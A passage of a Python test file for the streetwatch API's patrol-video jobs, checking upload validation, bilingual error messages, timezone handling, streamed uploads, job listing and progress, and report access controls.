    assert nogps.status_code == 400 and "no GPS track in form field 'track'" in nogps.json()["detail"]  # refused, not a job bound to fail
    badgps = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("行车 记录.mp4", clip.read_bytes(), "video/mp4"),
                                                                        "track": ("轨迹.gpx", b"not xml", "application/gpx+xml")}).json()
    job, badgps = _finished(client, inspector, job, badgps)
    assert job["state"] == "done", job
    for ended in (job, badgps):  # the record a job ends with kept when it started (it was lost, null once finished)
        assert ended["started_at"] and ended["started_at"] <= ended["finished_at"], ended
    assert job["summary"]["frames"] == 15 and job["summary"]["groups"] >= 1 and job["summary"]["cases"]
    # its cases name the video as uploaded (the stored file is video.mp4 for every upload: all were 'patrol:video')
    assert {app.state.ctx.store.get(c).source_id for c in job["summary"]["cases"]} == {"patrol:巡查 0310"}
    # the errors name the files as uploaded, never the server's paths
    assert badgps["state"] == "failed" and badgps["error"].startswith("轨迹.gpx: not a readable GPX file"), badgps
    assert str(app.state.ctx.service.data_dir) not in badgps["error"]


def test_a_patrol_job_whose_cases_cannot_be_written_fails_saying_why(tmp_path, clip, onnx_detector):  # noqa: F811
    """A key file the settings name that no longer loads (replaced by a short key after `serve` started, which checks it
    then) made the job warn in the log and end done with its report only, every violation in no review queue, where
    `streetwatch patrol` refuses; the job fails before sampling, its error saying why, Chinese first, the key named by
    its setting."""
    key = tmp_path / "evidence.key"
    key.write_text(KEY, encoding="utf-8")
    base = settings_for(tmp_path).model_dump(mode="json")
    app, tokens = make_app(Settings.model_validate({**base, "evidence": {**base["evidence"], "hmac_key_file": str(key)}}),
                           detector=onnx_detector)
    inspector = auth(tokens["inspector"])
    track = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30)).read_bytes()
    with TestClient(app, raise_server_exceptions=False) as client:
        key.write_text("short", encoding="utf-8")  # a rotation gone wrong
        job = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                         "track": ("drive.gpx", track, "application/gpx+xml")}).json()
        [job] = _finished(client, inspector, job)
    assert job["state"] == "failed", job
    assert job["error"] == ("无法生成候选案件，任务未处理，请联系管理员 cases cannot be written: evidence.hmac_key_file: evidence key "
                            "has 5 bytes; use at least 16; fix it and upload again, or set service.triage.cases: false for "
                            "reports without cases"), job["error"]
    assert not (app.state.ctx.service.data_dir / "patrol" / job["id"] / "out" / "frames").exists()  # refused before sampling


def test_a_patrol_job_without_the_evidence_key_says_why_its_violations_have_no_case(tmp_path, clip, onnx_detector,  # noqa: F811
                                                                                  monkeypatch):
    """With no evidence key set and `service.triage.cases` unset a patrol job ended done with its report only and a
    summary of violations and no case, not saying why (the page: 新案件 New cases: 0), where a photo upload's groups
    say it; its summary says it in the same words (`TriageJobs.cases_unavailable`), naming the variable."""
    monkeypatch.delenv("STREETWATCH_EVIDENCE_KEY", raising=False)
    app, tokens = make_app(settings_for(tmp_path), detector=onnx_detector)
    inspector = auth(tokens["inspector"])
    track = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30)).read_bytes()
    with TestClient(app, raise_server_exceptions=False) as client:
        job = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                         "track": ("drive.gpx", track, "application/gpx+xml")}).json()
        [job] = _finished(client, inspector, job)
    summary = job["summary"]
    assert job["state"] == "done" and summary["groups"] >= 1 and summary["cases"] == [], job
    assert summary["no_cases"].startswith("upload jobs write no candidate cases, only their report: ") and (
        "STREETWATCH_EVIDENCE_KEY is not set" in summary["no_cases"]), summary["no_cases"]
    assert summary["no_cases"] == app.state.ctx.jobs.cases_unavailable()  # a photo upload's groups say the same
    assert app.state.ctx.store.list() == []


def test_a_patrol_upload_the_job_would_refuse_is_refused_at_once_naming_it(city, tmp_path, monkeypatch):
    """A video of frames over the pixel limit (lowered below this real 320 x 240 video), or a file that is no video,
    was answered 202 and its job failed a moment later; the upload is refused 422 naming the video as uploaded and
    why (Chinese first), no job kept. At the limit the same video is taken."""
    from pipelines.cityops import patrol

    app, client, tokens = city
    inspector = auth(tokens["inspector"])
    monkeypatch.setattr(patrol, "MAX_FRAME_PIXELS", 320 * 240 - 1)
    video = pattern_video(tmp_path / "big.mp4", 320, 240, START.isoformat()).read_bytes()
    gpx = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30)).read_bytes()
    folder = app.state.ctx.service.data_dir / "patrol"

    def upload(name: str, data: bytes):
        return client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": (name, data, "video/mp4"),
                                                                            "track": ("drive.gpx", gpx, "application/gpx+xml")})

    big = upload("巡查 大画面.mp4", video)
    assert big.status_code == 422 and big.json()["type"].endswith("video-refused"), big.text
    assert big.json()["detail"] == ("巡查 大画面.mp4：画面过大（320 x 240 像素，76,800），超过单张图片上限 76,799 像素，拒收 "
                                    "巡查 大画面.mp4: frames of 320 x 240 pixels (76,800), more than the 76,799 a picture may have "
                                    "(a photo's limit): refused")
    text = upload("巡查.mp4", "一段文字，不是视频".encode())
    assert text.status_code == 422 and text.json()["detail"].startswith("巡查.mp4：不是可读取的视频文件 巡查.mp4: not a readable "
                                                                       "video: "), text.text
    assert str(folder) not in text.text and (not folder.exists() or list(folder.iterdir()) == [])
    monkeypatch.setattr(patrol, "MAX_FRAME_PIXELS", 320 * 240)  # at the limit: taken
    taken = upload("巡查.mp4", video)
    assert taken.status_code == 202 and [p.name for p in folder.iterdir()] == [taken.json()["id"]], taken.text
    _finished(client, inspector, taken.json())


def test_a_patrol_upload_takes_the_start_time_the_video_lacks(city, clip, tmp_path):  # noqa: F811
    """A dashcam's TS has no creation_time tag: with a GPX its upload could only fail, asking for a --start the API
    does not have; form field `start` gives the time (local, as --start), and the error names that field."""
    app, client, tokens = city
    inspector = auth(tokens["inspector"])
    video = ts_copy(clip, tmp_path / "drive.ts", 100).read_bytes()
    gpx = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30)).read_bytes()

    def upload(**form):
        return client.post("/api/v1/patrol/jobs", headers=inspector, data=form,
                           files={"video": ("行车 0310.ts", video, "video/mp2t"), "track": ("drive.gpx", gpx, "application/gpx+xml")})

    for bad, why in (("20.11.2026 09:00", "'20.11.2026 09:00' is not a time"), ("2099-01-01 09:00:00", "is in the future"),
                     ("1999-12-31 23:00:00", "is before 2000")):
        answer = upload(start=bad)
        assert answer.status_code == 422 and answer.json()["detail"].startswith("body.start: ") and why in answer.json()["detail"], answer.text
        assert [e["loc"] for e in answer.json()["errors"]] == [["body", "start"]], answer.text  # as FastAPI names a field
    as_file = client.post("/api/v1/patrol/jobs", headers=inspector, files={
        "video": ("行车 0310.ts", video, "video/mp2t"), "start": ("s.txt", b"09:00")})  # a text field sent as a file
    assert as_file.status_code == 422 and as_file.json()["detail"] == "body.start: a text field, not a file", as_file.text
    without, given, empty = upload().json(), upload(start="2026-11-20 09:00:00").json(), upload(start="").json()
    assert given["start"] == "2026-11-20T09:00:00+08:00" and without["start"] is None and empty["start"] is None
    without, given, empty = _finished(client, inspector, without, given, empty)
    assert without["state"] == "failed" and "--start" not in without["error"], without
    assert without["error"] == ("行车 0310.ts: no start time: the video has no creation_time tag to match the track's clock; send the "
                                "time of its first frame as form field 'start', 'YYYY-MM-DD HH:MM:SS' in local time (Asia/Shanghai); "
                                "on /ui/city: 开始时间 Start")
    assert empty["state"] == "failed" and empty["error"] == without["error"]  # the page sends an empty field when none is given
    assert given["state"] == "done", given
    assert given["summary"]["frames"] == 15 and given["summary"]["video_span"] == ["2026-11-20 09:00:00", "2026-11-20 09:00:29"]


def test_a_patrol_start_is_read_in_the_zone_the_pages_show(tmp_path, monkeypatch, onnx_detector, clip):  # noqa: F811
    """The form field `start` was read in `service.triage.timezone`, while /ui/city shows times in the city's zone
    (`GET /meta`): with the city in Berlin and the upload jobs' triage in Shanghai, 09:00 typed on the page was 09:00
    in Shanghai, seven hours off, and the drive's track covered none of the video. It is read in the pages' zone, and
    the run's summary and report are in that zone too, named (they were in Shanghai's, unnamed: 16:00 for 09:00)."""
    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    settings = settings_for(tmp_path, timezone="Europe/Berlin", triage={"timezone": "Asia/Shanghai", "ocr": "off"})
    assert settings.service.triage.timezone == "Asia/Shanghai" and settings.analytics.timezone == "Europe/Berlin"
    app, tokens = make_app(settings, detector=onnx_detector)
    inspector = auth(tokens["inspector"])
    video = ts_copy(clip, tmp_path / "drive.ts", 100).read_bytes()  # no creation_time: the start is the form's
    berlin_nine = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)  # 09:00 in Berlin
    gpx = write_gpx(tmp_path / "drive.gpx", _fixes(berlin_nine, 30)).read_bytes()
    with TestClient(app, raise_server_exceptions=False) as client:
        assert client.get("/api/v1/meta", headers=inspector).json()["timezone"] == "Europe/Berlin"
        given, without = (client.post("/api/v1/patrol/jobs", headers=inspector, data=form, files={
            "video": ("行车 0310.ts", video, "video/mp2t"), "track": ("drive.gpx", gpx, "application/gpx+xml")}).json()
            for form in ({"start": "2026-11-20 09:00:00"}, {}))
        assert given["start"] == "2026-11-20T09:00:00+01:00", given
        given, without = _finished(client, inspector, given, without)
        report = client.get(f"/api/v1/patrol/jobs/{given['id']}/report", headers=inspector).text
    assert given["state"] == "done" and given["summary"]["frames"] == 15 and not given["summary"]["messages"], given
    assert given["summary"]["video_span"] == ["2026-11-20 09:00:00", "2026-11-20 09:00:29"], given["summary"]
    assert given["summary"]["timezone"] == "Europe/Berlin" and "Europe/Berlin" in report and "Asia/Shanghai" not in report
    assert without["state"] == "failed" and "'YYYY-MM-DD HH:MM:SS' in local time (Europe/Berlin)" in without["error"], without


async def _streamed_patrol(app, headers: dict[str, str], video: Path, track: Path, start: str) -> httpx.Response:
    """POST /api/v1/patrol/jobs straight to the app with the video read from its file as it is sent, in chunks and with
    no Content-Length (a chunked upload, counted only as it streams): the client never holds the video whole."""
    boundary = "patrol-upload-boundary"

    async def body():
        yield (f'--{boundary}\r\nContent-Disposition: form-data; name="start"\r\n\r\n{start}\r\n'
               f'--{boundary}\r\nContent-Disposition: form-data; name="track"; filename="{track.name}"\r\n\r\n').encode()
        yield track.read_bytes()
        yield (f'\r\n--{boundary}\r\nContent-Disposition: form-data; name="video"; filename="{video.name}"\r\n'
               "Content-Type: video/mp2t\r\n\r\n").encode()
        with video.open("rb") as fh:
            while chunk := fh.read(1 << 16):
                yield chunk
        yield f"\r\n--{boundary}--\r\n".encode()

    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as client:
        return await client.post("/api/v1/patrol/jobs", content=body(), timeout=120,
                                 headers={**headers, "Content-Type": f"multipart/form-data; boundary={boundary}"})


@pytest.mark.slow  # 6 s: streams and analyses a patrol video; the default suite's ~15-minute budget
def test_a_patrol_video_goes_to_disk_as_it_streams(tmp_path, monkeypatch, onnx_detector, clip):  # noqa: F811
    """The uploaded video was read whole into the server's memory before it was written (as much as the 512 MiB
    limit for each upload at once); it is copied to the job's folder in chunks. One over the limit, sent without a
    length, is refused with 413 naming the limit while it streams, and leaves no job behind. The parser spools it in
    `service.data_dir`/uploads, on the data disk, not in the system's temporary folder (/tmp)."""
    from api.routers import cityops

    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    copy, spools = cityops.copy_upload, set()

    def observed(upload, path):  # while the part is copied to the job, it is in its spool file (past 1 MiB: on disk)
        if not upload._in_memory:
            spools.add(Path(os.readlink(f"/proc/self/fd/{upload.file.fileno()}")).parent)
        return copy(upload, path)

    monkeypatch.setattr(cityops, "copy_upload", observed)
    video = cbr_ts_copy(clip, tmp_path / "drive.ts", 12)  # a real 30 s TS of 44 MB
    longer = cbr_ts_copy(clip, tmp_path / "long.ts", 16)
    limit = video.stat().st_size + 2**20
    assert video.stat().st_size > 40 * 2**20 and longer.stat().st_size > limit
    settings = settings_for(tmp_path, max_upload_bytes=limit, triage={"ocr": "off"})
    app, tokens = make_app(settings, detector=onnx_detector)
    ctx, inspector = app.state.ctx, auth(tokens["inspector"])
    gpx = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30))
    with TestClient(app, raise_server_exceptions=False) as client:
        release = threading.Event()
        for _ in range(ctx.service.job_concurrency):  # the job waits its turn while its upload is measured
            ctx.jobs.pool.submit(release.wait)
        tracemalloc.start()
        try:
            answer = asyncio.run(_streamed_patrol(app, inspector, video, gpx, "2026-11-20 09:00:00"))
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
            release.set()
        assert answer.status_code == 202, answer.text
        assert peak < video.stat().st_size / 4, f"{peak} bytes held for a {video.stat().st_size}-byte upload"
        job = answer.json()
        assert sha256_file(ctx.service.data_dir / "patrol" / job["id"] / "video.ts") == sha256_file(video)
        assert spools == {ctx.service.upload_spool.resolve()} and list(ctx.service.upload_spool.iterdir()) == []

        over = asyncio.run(_streamed_patrol(app, inspector, longer, gpx, "2026-11-20 09:00:00"))
        assert over.status_code == 413 and f"upload is over the limit of {limit} bytes" in over.json()["detail"], over.text
        assert over.json()["detail"].startswith("上传超过上限"), over.text
        assert [p.name for p in (ctx.service.data_dir / "patrol").iterdir()] == [job["id"]]
        [job] = _finished(client, inspector, job)
    assert job["state"] == "done" and job["summary"]["frames"] == 15, job


def test_a_patrol_summary_names_the_files_as_uploaded(city, clip, tmp_path):  # noqa: F811
    """The summary's messages named the stored track by its server path (/srv/.../patrol/<id>/track.gpx), as the
    job's error did before it was worded for the client."""
    app, client, tokens = city
    inspector = auth(tokens["inspector"])
    short = write_gpx(tmp_path / "short.gpx", _fixes(START, 20)).read_bytes()  # ends 10 s before the video
    job = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                     "track": ("轨迹 0310.gpx", short, "application/gpx+xml")}).json()
    [job] = _finished(client, inspector, job)
    assert job["state"] == "done", job
    [message] = job["summary"]["messages"]
    assert message.startswith("轨迹 0310.gpx: the track does not cover the whole video") and str(app.state.ctx.service.data_dir) not in message


def test_a_patrol_jobs_texts_name_its_files_by_the_upload_jobs_rule(tmp_path):
    """The patrol jobs named their files by a rule of their own beside the upload jobs' (api.jobs.as_uploaded), which
    cut the job's folder out of any other path in it and left '/out/results.jsonl'; one rule names both: stored files
    as sent, frames by their names, other paths from the job's folder, the evidence folder by its setting."""
    from markupsafe import escape

    from api.routers.cityops import _as_uploaded
    from pipelines.settings import Settings

    folder = tmp_path / "patrol" / "0123456789abcdef"
    job = {"video": "video.mp4", "video_label": "行车 <0310>.mp4", "track": "track.gpx", "track_label": "轨迹.gpx"}
    settings = Settings.model_validate({"evidence_store": {"local_root": str(tmp_path / "evidence")}})
    text = (f"{folder}/track.gpx: ends early; {folder}/out/frames/frame-00001.jpg; {folder}/out/results.jsonl; "
            f"{folder}/video.mp4; cannot write evidence to {tmp_path / 'evidence'}/SW1")
    assert _as_uploaded(folder, job, settings)(text) == ("轨迹.gpx: ends early; frame-00001.jpg; out/results.jsonl; 行车 <0310>.mp4; "
                                                         "cannot write evidence to evidence_store.local_root/SW1")
    assert _as_uploaded(folder, job, settings, html=True)(str(escape(f"<a>{folder}/video.mp4</a>"))) == "&lt;a&gt;行车 &lt;0310&gt;.mp4&lt;/a&gt;"


def _patrol_with_storage_down(client, headers, clip: Path, tmp_path: Path) -> dict:  # noqa: F811
    """A patrol job of `clip` done while the settings' evidence folder (`settings_for`) is a file: every upload fails."""
    shutil.rmtree(tmp_path / "evidence", ignore_errors=True)
    (tmp_path / "evidence").write_text("a file where the evidence folder should be: every upload fails")
    track = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30)).read_bytes()
    job = client.post("/api/v1/patrol/jobs", headers=headers, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                   "track": ("drive.gpx", track, "application/gpx+xml")}).json()
    [job] = _finished(client, headers, job)
    assert job["state"] == "done", job
    return job


def test_a_patrol_jobs_summary_says_what_became_of_the_evidence_spool(city, clip, tmp_path):  # noqa: F811
    """A patrol job retries the evidence spool as a photo upload does, and its summary had no spool: with storage down
    its own bundles waited unsaid. It has the upload's, why each waits naming the evidence folder by its setting."""
    app, client, tokens = city
    inspector = auth(tokens["inspector"])
    job = _patrol_with_storage_down(client, inspector, clip, tmp_path)
    cases, spool = job["summary"]["cases"], job["summary"]["spool"]
    assert cases and (spool["uploaded"], spool["waiting"]) == (0, len(cases))
    assert sorted(w["case_id"] for w in spool["waiting_cases"]) == sorted(cases)
    for waiting in spool["waiting_cases"]:
        assert f"cannot write evidence to evidence_store.local_root/{waiting['case_id']}: " in waiting["reason"], waiting
        assert str(tmp_path) not in waiting["reason"], waiting


def test_a_patrol_jobs_report_names_no_evidence_folder(city, clip, tmp_path):  # noqa: F811
    """With storage down a patrol job's report said why its case has no stored evidence in the case's words, which name
    the folder it could not write (/srv/.../evidence/SW...), as a stored bundle's file:// reference does; the photo
    uploads' report names the folders by their settings, and so does the patrol's."""
    app, client, tokens = city
    inspector = auth(tokens["inspector"])
    job = _patrol_with_storage_down(client, inspector, clip, tmp_path)
    report = client.get(f"/api/v1/patrol/jobs/{job['id']}/report", headers=inspector).text
    assert f"evidence_store.local_root/{job['summary']['cases'][0]}" in report and str(tmp_path) not in report


def test_a_patrol_jobs_report_is_served_as_the_pages_are(city, clip, tmp_path):  # noqa: F811
    """The run writes a report.html for each job that no route served; GET .../report answers it to whoever may read
    the job, under the pages' policy and kept by no browser, its frames named without the server's folders (as the
    API names files everywhere), and says why a job has none."""
    app, client, tokens = city
    inspector = auth(tokens["inspector"])
    srt_path = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START)
    job = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("巡查 0310.mp4", clip.read_bytes(), "video/mp4"),
                                                                     "track": ("drive.srt", srt_path.read_bytes(), "text/plain")}).json()
    bad = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                     "track": ("轨迹.gpx", b"not xml", "application/gpx+xml")}).json()
    job, bad = _finished(client, inspector, job, bad)
    assert job["state"] == "done" and bad["state"] == "failed", (job, bad)
    report = client.get(f"/api/v1/patrol/jobs/{job['id']}/report", headers=inspector)
    assert report.status_code == 200 and report.headers["content-type"] == "text/html; charset=utf-8"
    assert "<h1>巡查照片分拣报告 · Photo triage report</h1>" in report.text
    assert 'data-source="frame-00000-t00000.00.jpg"' in report.text and str(app.state.ctx.service.data_dir) not in report.text
    page = client.get("/ui/city")
    assert report.headers["content-security-policy"] == page.headers["content-security-policy"]
    assert report.headers["x-frame-options"] == "DENY" and report.headers["cache-control"] == "no-store"
    assert client.get(f"/api/v1/patrol/jobs/{job['id']}/report", headers=auth(tokens["reviewer"])).status_code == 200
    other = app.state.ctx.accounts.add("inspector-2", "inspector")[1]
    assert client.get(f"/api/v1/patrol/jobs/{job['id']}/report", headers=auth(other)).status_code == 404  # not theirs
    failed = client.get(f"/api/v1/patrol/jobs/{bad['id']}/report", headers=inspector)
    assert failed.status_code == 404 and failed.json()["detail"] == f"patrol job {bad['id']!r} has no report: it failed"


def test_a_poll_that_read_a_patrol_job_running_as_it_ended_keeps_no_count(city, clip, tmp_path, monkeypatch):  # noqa: F811
    """As for a photo upload's job: a poll that read the patrol job running, its count landing right after the job
    ended (patched in at that point), kept the count its end had let go of, until the job was removed."""
    import api.routers.cityops as cityops

    app, client, tokens = city
    ctx, inspector, polled, returned = app.state.ctx, auth(tokens["inspector"]), [], threading.Event()
    end_job = cityops.end_job

    def polled_across_the_end(records, path, folder, job):
        running = cityops.read_job(folder)  # what a poll read just before the job ended
        end_job(records, path, folder, job)
        polled.append(cityops._patrol_progress(ctx, folder, running))  # its count, once the end has let go of the job's
        returned.set()  # the client may see the job done before this line: it waits for it

    monkeypatch.setattr(cityops, "end_job", polled_across_the_end)
    track = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START).read_bytes()
    job = client.post("/api/v1/patrol/jobs", headers=inspector, files={
        "video": ("巡查 A.mp4", clip.read_bytes(), "video/mp4"), "track": ("drive.srt", track, "text/plain")}).json()
    [job] = _finished(client, inspector, job)
    assert returned.wait(60)
    assert job["state"] == "done" and [(p.phase, p.done) for p in polled] == [("cases", 15)], (job, polled)
    assert kept_per_job(ctx.jobs.records) == {}


def test_patrol_jobs_are_listed_newest_first_with_their_progress(city, clip, tmp_path):  # noqa: F811
    """There was no list of patrol jobs, only each job by its id, which /ui/city kept in the page: reloaded while a
    job ran, the page lost it. GET /patrol/jobs lists them newest first (an inspector's own, reviewers all), at
    most `limit`, each with its progress: queued, then frames judged out of those sampled, then done."""
    app, client, tokens = city
    ctx = app.state.ctx
    inspector, other = auth(tokens["inspector"]), auth(ctx.accounts.add("inspector-2", "inspector")[1])
    track = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START).read_bytes()

    def upload(headers: dict[str, str], name: str) -> dict:
        return client.post("/api/v1/patrol/jobs", headers=headers, files={
            "video": (name, clip.read_bytes(), "video/mp4"), "track": ("drive.srt", track, "text/plain")}).json()

    assert client.get("/api/v1/patrol/jobs", headers=inspector).json() == []
    first = upload(inspector, "巡查 A.mp4")
    [first] = _finished(client, inspector, first)
    assert first["state"] == "done" and first["progress"] == {"phase": "done", "done": 15, "total": 15, "rate": None, "eta_s": None}, first
    assert kept_per_job(ctx.jobs.records) == {}  # a finished job's count is in its record (`recorded`), not kept for ever
    theirs = upload(other, "巡查 B.mp4")
    release = threading.Event()
    for _ in range(ctx.service.job_concurrency):  # the next job waits behind a busy pool: queued
        ctx.jobs.pool.submit(release.wait)
    try:
        waiting = upload(inspector, "巡查 C.mp4")
        listed = client.get("/api/v1/patrol/jobs", headers=inspector).json()
        assert [(j["id"], j["video_label"], j["state"]) for j in listed] == [
            (waiting["id"], "巡查 C.mp4", "queued"), (first["id"], "巡查 A.mp4", "done")], listed
        assert listed[0]["progress"] == {"phase": "queued", "done": 0, "total": None, "rate": None, "eta_s": None}
        assert listed[1] == first  # each as GET /patrol/jobs/{id} shows it
        assert [j["video_label"] for j in client.get("/api/v1/patrol/jobs", headers=other).json()] == ["巡查 B.mp4"]
        everyone = client.get("/api/v1/patrol/jobs", headers=auth(tokens["reviewer"])).json()
        assert [j["id"] for j in everyone] == [waiting["id"], theirs["id"], first["id"]]
        assert [j["id"] for j in client.get("/api/v1/patrol/jobs?limit=1", headers=auth(tokens["reviewer"])).json()] == [waiting["id"]]
        assert client.get("/api/v1/patrol/jobs?limit=0", headers=inspector).status_code == 422
    finally:
        release.set()

    # a run a stopped server left mid-way (its folder as it stood: frames sampled, five of them judged)
    folder = ctx.service.data_dir / "patrol"
    stopped = "0123456789abcdef"
    shutil.copytree(folder / first["id"], folder / stopped)
    results = folder / stopped / "out" / "results.jsonl"
    results.write_text("".join(results.read_text(encoding="utf-8").splitlines(keepends=True)[:5]), encoding="utf-8")
    record = json.loads((folder / stopped / "job.json").read_text(encoding="utf-8"))
    (folder / stopped / "job.json").write_text(json.dumps({**record, "id": stopped, "state": "running", "summary": None,
                                                           "finished_at": None, "created_at": "2026-11-20T01:00:00+00:00"}))
    running = client.get(f"/api/v1/patrol/jobs/{stopped}", headers=inspector).json()
    assert running["progress"] == {"phase": "frames", "done": 5, "total": 15, "rate": None, "eta_s": None}, running
    again = {**running, "progress": {**running["progress"], "rate": 0.0}}  # a second look: no frame judged since
    assert client.get("/api/v1/patrol/jobs", headers=inspector).json()[-1] == again  # the oldest: listed last
    assert [j["state"] for j in _finished(client, auth(tokens["reviewer"]), waiting, theirs)] == ["done", "done"]



def test_a_running_patrol_jobs_progress_gives_the_rate_of_the_frames_it_judges_and_the_time_left(
        tmp_path, monkeypatch, onnx_detector, clip):  # noqa: F811
    """A patrol job's progress said frames judged of those sampled and its phase only, while a photo upload's gives the
    rate and the seconds left: a half-hour video's hundreds of frames said 530 / 1800 and nothing of how long was left.
    While frames are judged it gives them as an upload does (`judging_pace`: of the frames this run records, at the
    CLI bar's reckoning); none once all are. The detector judges a frame each time the test lets it."""
    import math

    from tests.test_api_uploads import Gated, poll_progress

    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    detector = Gated(onnx_detector)
    app, tokens = make_app(settings_for(tmp_path, triage={"workers": 1, "ocr": "off"}), detector=detector)
    inspector = auth(tokens["inspector"])
    track = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START).read_bytes()

    def poll(until) -> dict:
        return poll_progress(client, f"/api/v1/patrol/jobs/{job_id}", inspector, until)

    with TestClient(app) as client:
        job_id = client.post("/api/v1/patrol/jobs", headers=inspector, files={
            "video": ("巡查 0310.mp4", clip.read_bytes(), "video/mp4"), "track": ("drive.srt", track, "text/plain")}).json()["id"]
        journal = app.state.ctx.service.patrol_dir / job_id / "out" / "results.jsonl"
        try:
            poll(lambda p: p["phase"] == "frames" and p["total"] == 15 and journal.exists())  # the frames' judging has begun
            first = poll(lambda p: True)  # its first look at the journal, no frame judged yet
            assert first["done"] == 0 and first["rate"] in (None, 0.0) and first["eta_s"] is None, first  # none judged: no rate
            for judged in (1, 2):
                detector.gate.release()
                progress = poll(lambda p, n=judged: p["done"] == n)
                assert progress["phase"] == "frames" and progress["rate"] > 0, progress
                assert progress["eta_s"] == math.ceil((15 - judged) / progress["rate"]) > 0, progress
        finally:  # the rest judged at once (a failed assertion leaves no job waiting at the gate as the client stops)
            detector.gate.release(15)
        done = poll(lambda p: p["phase"] == "done")
    assert done == {"phase": "done", "done": 15, "total": 15, "rate": None, "eta_s": None}


def test_the_patrol_job_list_reads_only_the_newest_jobs(tmp_path, caplog):
    """GET /patrol/jobs answered the newest 50 but read every job.json the server ever kept, on each request (the
    page polls it); it reads as GET /triage/jobs does (`newest_jobs`): the oldest 40 here have records no one can
    read, and nothing says so, while the list is what it was (by creation time: a job taken up again lately, whose
    folder changed then, stays where its creation puts it; an upload still arriving is no job yet)."""
    import logging
    from datetime import timedelta

    from api.jobs import write_job

    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    root, start = app.state.ctx.service.data_dir / "patrol", datetime(2026, 1, 5, 8, tzinfo=UTC)
    made = []
    for i in range(260):
        created = start + timedelta(minutes=i)
        job = {"id": f"{i:016x}", "owner": "inspector-user" if i % 4 == 0 else "someone-else", "state": "done",
               "created_at": created.isoformat(), "video": "video.mp4", "video_label": f"巡查 {i}.mp4",
               "track": "track.srt", "track_label": "drive.srt", "start": None}
        folder = root / job["id"]
        folder.mkdir(parents=True)
        write_job(folder, job)
        if i < 40:  # long ago, and unreadable now
            (folder / "job.json").write_text('{"id": "', encoding="utf-8")
        modified = datetime.now(UTC) if i == 45 else created  # job 45 was taken up again lately
        os.utime(folder, (modified.timestamp(), modified.timestamp()))
        made.append(job)
    (root / "feedfacefeedface").mkdir()  # an upload arriving: its folder, no job.json yet

    def listed(token: str, limit: int) -> list[str]:
        answer = client.get(f"/api/v1/patrol/jobs?limit={limit}", headers=auth(token))
        assert answer.status_code == 200, answer.text
        return [j["id"] for j in answer.json()]

    with TestClient(app, raise_server_exceptions=False) as client, caplog.at_level(logging.WARNING, logger="api.jobs"):
        assert listed(tokens["reviewer"], 200) == [j["id"] for j in made[::-1][:200]]
        assert "unreadable" not in caplog.text  # the oldest were not read
        # An inspector's own: all 55 readable ones (fewer than the limit, so every folder is read).
        assert listed(tokens["inspector"], 200) == [j["id"] for j in made[::-1] if j["owner"] == "inspector-user" and j in made[40:]]
        assert f"{made[0]['id']}/job.json: unreadable job record" in caplog.text
        # one of them asked for by its id: no job, as the list says (its JSON error was a 500)
        one = client.get(f"/api/v1/patrol/jobs/{made[0]['id']}", headers=auth(tokens["reviewer"]))
        assert one.status_code == 404 and one.json()["type"].endswith("job-not-found"), one.text


def test_a_patrol_video_name_is_only_a_label(city, tmp_path):
    """The stored video is `video<suffix>` with a suffix of letters and digits: a name with a NUL (a client can send
    one in a raw multipart body) was a 500 that left an empty job folder behind."""
    app, client, tokens = city
    video = pattern_video(tmp_path / "drive.mp4", 64, 48, START.isoformat(), seconds=1).read_bytes()
    body = (b'--XX\r\nContent-Disposition: form-data; name="video"; filename="drive.m\x00p4"\r\nContent-Type: video/mp4\r\n\r\n'
            + video + b'\r\n--XX\r\nContent-Disposition: form-data; name="track"; filename="drive.gpx"\r\n\r\n<gpx/>\r\n--XX--\r\n')
    answer = client.post("/api/v1/patrol/jobs", content=body, headers={**auth(tokens["inspector"]),
                                                                       "Content-Type": "multipart/form-data; boundary=XX"})
    assert answer.status_code == 202, answer.text
    job = answer.json()
    assert job["video"] == "video.mp4" and job["video_label"] == "drive.m\x00p4"
    folders = list((app.state.ctx.service.data_dir / "patrol").iterdir())
    assert [f.name for f in folders] == [job["id"]] and (folders[0] / "video.mp4").read_bytes() == video


def test_the_patrol_job_schema_says_a_track_is_always_sent(city):
    """The job's `track` said "None: no track sent", though an upload without one is refused (400)."""
    _, client, _ = city
    fields = client.get("/openapi.json").json()["components"]["schemas"]["PatrolJob"]["properties"]
    assert "no track sent" not in fields["track"]["description"]
    assert "every upload sends one (400 without)" in fields["track"]["description"]


@contextmanager
def _serving(tmp_path, config):
    """`streetwatch serve --config config` on loopback: its base URL and process, stopped (if still running) after."""
    port = free_port()
    server = start_server([sys.executable, "-m", "streetwatch.cli", "serve", "--port", str(port), "--config", str(config)],
                          "127.0.0.1", port, tmp_path / f"serve-{port}.log", timeout_s=60, cwd=REPO,
                          env={**os.environ, "STREETWATCH_EVIDENCE_KEY": KEY})
    try:
        yield f"http://127.0.0.1:{port}", server
    finally:
        stop_process(server)


@pytest.mark.slow  # 11 s: two servers and a patrol video
